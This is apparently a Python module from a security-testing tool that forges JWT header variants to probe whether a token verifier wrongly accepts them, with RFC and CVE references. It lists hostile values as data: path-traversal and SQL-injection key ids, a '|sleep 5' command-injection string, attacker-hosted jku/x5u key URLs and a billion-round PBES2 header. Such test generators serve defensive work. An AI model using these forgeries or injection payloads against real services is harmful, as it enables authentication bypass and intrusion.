"""JSON Web Tokens: header parameters that tell a verifier where its key is, or what else it must do."""

from __future__ import annotations

from dataclasses import replace
from typing import Any, Final

from gatecrash.authorizers.contract import Demand
from gatecrash.generators.attacks import attacker
from gatecrash.generators.attacks.attack import Family, Layer, Scene
from gatecrash.generators.attacks.changes import jwt_parts, sign_again, sign_otherwise, with_header, without_header
from gatecrash.generators.attacks.kinds import is_jwt
from gatecrash.generators.credentials.credential import Credential
from gatecrash.generators.credentials.signers import jws_signer
from gatecrash.generators.credentials.tokens import base64url

FAMILY: Final = Family("jwt_header", is_jwt, layer=Layer.TOKEN)
_KEY_ID: Final = "RFC 8725 section 3.10; RFC 7515 section 4.1.4"
# A key id that names a file or a row, and what an attacker knows to be in it.
_KNOWN_KEYS: Final = (
    ("../../../../../../../../dev/null", b""),
    ("/dev/null", b""),
    ("' UNION SELECT 'gatecrash'-- ", b"gatecrash"),
    ("0", b""),
    ("", b""),
)


@FAMILY.credential(
    Demand.DENY,
    "RFC 7515 section 4.1.11; GHSA-752w-5fwx-jx9f; CVE-2025-59420",
    "unknown",
    "b64",
    weakness="critical header parameters are ignored",
    touches="crit",
)
def critical_parameter(scene: Scene, which: str) -> Credential | None:
    """Demand, in a rightly signed header, an extension that no verifier knows, or the unencoded payload of RFC 7797."""
    changes = {"b64": False, "crit": ["b64"]} if which == "b64" else {"gatecrash": 1, "crit": ["gatecrash"]}
    return with_header(scene, **changes)


@FAMILY.credential(
    Demand.BETTER_DENIED,
    "RFC 7515 section 4.1.11: a non-empty list of names that are present",
    *([], "exp", ["alg"], ["exp"], {}, None),
    weakness="a malformed crit is accepted",
    touches="crit",
)
def critical_parameter_malformed(scene: Scene, value: Any) -> Credential | None:
    """Sign rightly a header whose crit is empty, no list, or lists what may not be in it."""
    return with_header(scene, crit=value)


@FAMILY.credential(
    Demand.DENY,
    "RFC 8725 section 3.10; CVE-2018-0114",
    *("jwk", "jwk_without_kid", "jku", "x5u", "x5c"),
    layer=Layer.SIGNATURE,
    weakness="a key that the token itself brings is trusted",
    touches="signature",
)
def key_of_the_attacker(scene: Scene, parameter: str) -> Credential:
    """Sign with the attacker's key, and name it in the header, or an address of it (on this machine)."""
    profile, token = jwt_parts(scene)
    algorithm = attacker.algorithm_of(profile.algorithm)
    key = attacker.json_web_key(algorithm)
    values: dict[str, Any] = {
        "jwk": {"jwk": {**key, "kid": profile.key_id or key["kid"]}},
        "jwk_without_kid": {"jwk": key},
        "jku": {"jku": f"{attacker.SINK}/jwks.json", "kid": key["kid"]},
        "x5u": {"x5u": f"{attacker.SINK}/certificate.pem"},
        "x5c": {"x5c": [attacker.CERTIFICATE]},
    }
    header = {**token.header, "alg": algorithm, **values[parameter]}
    if parameter == "jwk_without_kid":
        header.pop("kid", None)
    return sign_otherwise(scene, header, attacker.signer(algorithm))


@FAMILY.credential(
    Demand.DENY,
    "RFC 8725 section 3.10; jwt_tool, kid injection",
    *range(len(_KNOWN_KEYS)),
    layer=Layer.SIGNATURE,
    weakness="the key id picks a key that the attacker knows",
    touches="signature",
)
def key_id_of_a_known_key(scene: Scene, number: int) -> Credential:
    """Name by the key id a file or a row whose content is known, and sign by HMAC with that content."""
    _, token = jwt_parts(scene)
    key_id, key = _KNOWN_KEYS[number]
    return sign_otherwise(scene, {**token.header, "alg": "HS256", "kid": key_id}, jws_signer("HS256", key))


@FAMILY.credential(
    Demand.DENY,
    _KEY_ID,
    *("gatecrash", "", None, "missing"),
    layer=Layer.SIGNATURE,
    weakness="an unknown key id switches verification off",
    touches="signature",
)
def key_id_unknown_and_key_too(scene: Scene, value: Any) -> Credential:
    """Sign with the attacker's key, under a key id that nobody knows, or under none."""
    profile, token = jwt_parts(scene)
    algorithm = attacker.algorithm_of(profile.algorithm)
    header = {**token.header, "alg": algorithm, "kid": value}
    if value == "missing":
        header.pop("kid")
    return sign_otherwise(scene, header, attacker.signer(algorithm))


@FAMILY.credential(
    Demand.ANY,
    _KEY_ID,
    *("gatecrash", "", "k" * 4000, "../../../../etc/passwd", "k1\x00", "'; DROP TABLE keys; --", "|sleep 5", "\u212a1"),
    touches="kid",
    weakness="odd key id",
)
def key_id_odd(scene: Scene, value: str) -> Credential | None:
    """Name an unknown, long or hostile key id in a token that is rightly signed."""
    return with_header(scene, kid=value)


@FAMILY.credential(
    Demand.ANY,
    "RFC 7515 section 4.1.4: kid is a string",
    *(0, 1, None, True, {}, "list", 1.5, {"k1": 1}),
    touches="kid",
    weakness="odd key id",
)
def key_id_no_text(scene: Scene, value: Any) -> Credential | None:
    """Sign rightly a header whose key id is a number, a list, an object or nothing."""
    profile, _ = jwt_parts(scene)
    return with_header(scene, kid=[profile.key_id] if value == "list" else value)


@FAMILY.credential(Demand.ANY, "RFC 7515 section 4.1.4: kid is optional", touches="kid")
def key_id_missing(scene: Scene, _: Any) -> Credential | None:
    """Sign rightly a header without a key id."""
    return without_header(scene, "kid")


@FAMILY.credential(
    Demand.ANY,
    "RFC 8725 section 3.11; RFC 7515 section 4.1.9",
    *("at+jwt", "JWS", "", 5, None, {}, "dpop+jwt", "j" * 3000),
    touches="typ",
)
def type_odd(scene: Scene, value: Any) -> Credential | None:
    """Sign rightly a header of another type, or of none."""
    return with_header(scene, typ=value)


@FAMILY.credential(Demand.ANY, "RFC 7519 section 5.2; RFC 7516 section 4.1.3", "cty", "zip", "enc", touches="cty")
def content_odd(scene: Scene, parameter: str) -> Credential | None:
    """Sign rightly a header that says the content is a token, compressed or encrypted."""
    return with_header(scene, **{parameter: {"cty": "JWT", "zip": "DEF", "enc": "A256GCM"}[parameter]})


@FAMILY.credential(
    Demand.DENY,
    "RFC 7515 section 5.2: the header is a JSON object",
    *(b"[]", b'"text"', b"null", b"7", b"", b"{", b"\xff\xfe", b"{}garbage"),
    weakness="a header that is no object is accepted",
    touches="header",
)
def header_no_object(scene: Scene, text: bytes) -> Credential:
    """Sign rightly a first part that is no JSON object."""
    return sign_again(scene, header_text=text)


@FAMILY.credential(
    Demand.DENY,
    "RFC 8725 section 2.4; RFC 7516",
    "dir",
    "PBES2-HS256+A128KW",
    layer=Layer.SIGNATURE,
    weakness="an encrypted token that nobody issued is accepted",
    touches="signature",
)
def encrypted_token(scene: Scene, algorithm: str) -> Credential:
    """Present five parts, like an encrypted token, whose key derivation would take a billion rounds."""
    header = b'{"alg":"%s","enc":"A128GCM","p2c":1000000000,"p2s":"AAAAAAAAAAA"}' % algorithm.encode()
    parts = [header, *(scene.rng.randbytes(size) for size in (24, 12, 64, 16))]
    return replace(scene.credential, secret=".".join(map(base64url, parts)))
